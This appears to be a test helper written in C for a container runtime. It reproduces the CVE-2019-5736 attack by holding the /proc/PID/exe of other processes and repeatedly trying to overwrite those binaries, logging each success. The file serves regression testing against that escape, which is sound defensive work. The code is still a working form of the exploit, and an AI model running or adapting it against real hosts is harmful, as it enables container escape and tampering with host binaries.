/* SPDX-License-Identifier: MIT */
/* holdexe -- the attacker of CVE-2019-5736: holds the /proc/PID/exe of every
 * other process, the runtime's init among them, and tries to write to it until
 * killed.  Appends "held" and "wrote" to the file log. */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

enum { HELD_MAX = 256 };

static int held[HELD_MAX], n_held;
static int log_fd;

static void
say(const char *s)
{
	if (write(log_fd, s, strlen(s)) < 0)
		_exit(3);
}

static void
hold(const char *pid)
{
	char path[300];

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	if (n_held == HELD_MAX)
		close(held[--n_held]);
	held[n_held] = open(path, O_PATH);
	if (held[n_held] >= 0) {
		n_held++;
		say("held\n");
	}
}

static void
attack(void)
{
	char path[64];

	for (int i = 0; i < n_held; i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		fd = open(path, O_WRONLY);
		if (fd < 0)
			continue;
		if (write(fd, "owned", 5) == 5)
			say("wrote\n");
		close(fd);
	}
}

int
main(void)
{
	struct timespec nap = { 0, 200000 };

	log_fd = open("log", O_WRONLY | O_CREAT | O_APPEND, 0600);
	if (log_fd < 0)
		return 2;
	say("ready\n");
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		if (!d)
			return 2;
		while ((e = readdir(d)))
			if (e->d_name[0] >= '1' && e->d_name[0] <= '9' &&
			    strtol(e->d_name, NULL, 10) != getpid())
				hold(e->d_name);
		closedir(d);
		attack();
		nanosleep(&nap, NULL);
	}
}
